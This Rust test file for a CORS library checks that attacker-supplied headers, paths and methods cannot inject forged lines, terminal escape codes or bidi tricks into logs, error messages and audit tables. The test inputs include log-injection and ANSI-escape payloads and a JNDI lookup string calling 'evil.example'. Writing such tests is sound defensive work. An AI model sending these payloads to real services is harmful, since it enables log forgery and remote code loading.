//! What an attacker can write into logs, tables and messages: nothing but text in its place.
//!
//! CVE-2024-1681 (flask-cors)
// A process of its own, because events are limited per process.

use std::{
    io,
    sync::{Arc, Mutex},
};

use axum::{body::Body, extract::Request, http::HeaderValue};
use cors_runtime::{CorsRouter, Policy, cors, delegate, diagnostics::Engine, get, policy, put};
use cors_tests::respond;
use tracing_subscriber::fmt::MakeWriter;

static POLICY: Policy =
    policy! { origins = ["https://shop.example"], headers = ["authorization"], methods = ["GET", "PUT"] };

/// Tries to end a line, to begin an entry, to move the cursor, and to turn text around.
const TEXTS: [&[u8]; 7] = [
    b"\tWARN cors: cors allows everything",
    b"\x1b[2J\x1b]0;title\x07",
    b"\xc2\x9b2J",
    "\u{202e}elpmaxe.pohs".as_bytes(),
    b"\" kind=\"none\" x=\"",
    b"{\"kind\":\"none\"}, %s ${jndi:ldap://evil.example} {}",
    b"\xff\xfe\x80",
];

/// Keeps what is written.
#[derive(Clone, Default)]
struct Buffer(Arc<Mutex<Vec<u8>>>);

impl io::Write for Buffer {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

impl MakeWriter<'_> for Buffer {
    type Writer = Self;

    fn make_writer(&self) -> Self {
        self.clone()
    }
}

/// The value of a header field, as far as HTTP carries these bytes.
fn value(bytes: &[u8]) -> HeaderValue {
    let carried: Vec<u8> =
        bytes.iter().copied().filter(|byte| HeaderValue::from_bytes(&[*byte]).is_ok()).collect();
    HeaderValue::from_bytes(&carried).unwrap()
}

/// Requests whose every part is the attacker's.
fn requests() -> Vec<Request> {
    let mut requests = Vec::new();
    for text in TEXTS {
        let mut preflight = Request::options("/").body(Body::empty()).unwrap();
        let headers = preflight.headers_mut();
        headers.insert("origin", value(text));
        headers.insert("access-control-request-method", value(text));
        headers.insert("access-control-request-headers", value(text));
        requests.push(preflight);

        // A known origin, so that the others are looked at.
        for name in ["access-control-request-headers", "access-control-request-method"] {
            let mut preflight =
                Request::options("/").header("origin", "https://shop.example").body(Body::empty()).unwrap();
            preflight.headers_mut().insert("access-control-request-method", HeaderValue::from_static("PUT"));
            preflight.headers_mut().insert(name, value(text));
            requests.push(preflight);
        }

        let mut request = Request::get("/").body(Body::empty()).unwrap();
        request.headers_mut().insert("origin", value(text));
        requests.push(request);
    }
    for path in ["/%0a%0dWARN", "/x?%0a", "/\u{e9}", "/%1b[2J", "/a\"b", "/{x}"] {
        if let Ok(request) = Request::get(path).header("origin", "https://evil.example").body(Body::empty()) {
            requests.push(request);
        }
    }
    // Methods are tokens, so there is little to break out with.
    for method in ["A'B", "${X}", "a|b`c`", "~%s%n"] {
        if let Ok(request) = Request::builder()
            .method(method)
            .uri("/")
            .header("origin", "https://evil.example")
            .body(Body::empty())
        {
            requests.push(request);
        }
    }
    requests
}

async fn fails(request: axum::http::HeaderMap) -> Result<Policy, String> {
    // An error with what the client sent in it, as errors are.
    Err(format!("no tenant {}", String::from_utf8_lossy(request["origin"].as_bytes())))
}

/// Whether nothing in it deceives a reader or a terminal: printable ASCII, the quotes of Firefox's messages, and what is
/// written for what was cut, or for bytes that are not text.
/// Whether nothing in it deceives a reader or a terminal: printable ASCII, the quotes of Firefox's messages, and what is
/// written for what was cut, or for bytes that are not text.
fn is_plain(text: &str) -> bool {
    text.chars().all(|char| matches!(char, ' '..='~' | '‘' | '’' | '…' | '\u{fffd}'))
}

/// Events are one line each, and of printable ASCII.
#[tokio::test]
async fn log_injection_into_events() {
    let buffer = Buffer::default();
    let events = Arc::new(Mutex::new(0));
    let count = Arc::clone(&events);
    let subscriber =
        tracing_subscriber::fmt().with_writer(buffer.clone()).with_ansi(false).without_time().finish();
    let app = || {
        CorsRouter::new()
            .route("/", get(cors(&POLICY, async || ())).put(cors(&POLICY, async || ())))
            .route("/delegated", get(cors(delegate(fails), async || ())))
    };
    let app = app()
        .on_refusal(move |refusal| {
            *count.lock().unwrap() += 1;
            for text in [
                refusal.message(),
                refusal.help(),
                refusal.origin().unwrap_or_default().to_owned(),
                refusal.method().to_owned(),
                refusal.path().to_owned(),
                refusal.rejected_value().unwrap_or_default().to_owned(),
                refusal.console_message(Engine::Chromium).unwrap_or_default(),
                refusal.console_message(Engine::Firefox).unwrap_or_default(),
                refusal.console_message(Engine::WebKit).unwrap_or_default(),
            ] {
                assert!(is_plain(&text), "{text:?}");
            }
            assert!(refusal.to_string().lines().count() <= 5, "{refusal}");
            assert!(!format!("{refusal:?}").contains('\n'), "{refusal:?}");
        })
        .finish()
        .unwrap();
    let guard = tracing::subscriber::set_default(subscriber);
    for request in requests() {
        respond(&app, request).await;
    }
    for text in TEXTS {
        let mut request = Request::get("/delegated").body(Body::empty()).unwrap();
        request.headers_mut().insert("origin", value(text));
        respond(&app, request).await;
    }
    drop(guard);
    assert!(*events.lock().unwrap() > 30, "{events:?}");
    let log = String::from_utf8(std::mem::take(&mut *buffer.0.lock().unwrap())).unwrap();
    assert!(log.lines().count() > 10, "{log}");
    for line in log.lines() {
        assert!(line.trim_start().starts_with("WARN cors: cors refused "), "{line:?}");
        assert!(is_plain(line), "{line:?}");
    }
}

/// What is refused is explained in lines that nobody else can begin.
#[test]
fn log_injection_into_explanations() {
    for request in requests() {
        let explanation = POLICY.explain(&request).to_string();
        assert!(explanation.lines().count() <= 5, "{explanation:?}");
        for line in explanation.lines() {
            assert!(is_plain(line), "{line:?}");
        }
    }
}

/// Tables and errors of set-up show paths, which may come from a configuration.
#[test]
fn log_injection_into_tables_and_errors() {
    let odd = "/a\u{1b}[2Jb\nGET /admin any\u{202e}|x";
    let router = CorsRouter::<()>::new().route(odd, put(cors(&POLICY, async || ())));
    let plain = CorsRouter::<()>::new().route("/plain", put(cors(&POLICY, async || ())));
    for (table, lines) in [
        (router.audit().to_string(), plain.audit().to_string().lines().count()),
        (router.audit().to_markdown(), plain.audit().to_markdown().lines().count()),
    ] {
        assert_eq!(table.lines().count(), lines, "{table:?}");
        assert!(table.lines().all(is_plain), "{table:?}");
    }
    let error = router.route(odd, put(cors(&POLICY, async || ()))).finish().unwrap_err();
    assert_eq!(error.to_string().lines().count(), error.problems().len(), "{error:?}");
    assert!(error.to_string().lines().all(is_plain), "{error:?}");
    for origin in
        ["https://\u{1b}[2J", "https://a\nb", "https://\u{202e}elpmaxe", "\u{feff}https://a", "\u{7f}"]
    {
        let error =
            Policy::builder().origins([origin]).headers([origin]).methods([origin]).build().unwrap_err();
        for line in error.to_string().lines() {
            assert!(
                line.chars().all(|char| !char.is_control() && char != '\u{202e}' && char != '\u{feff}'),
                "{line:?}"
            );
        }
    }
}
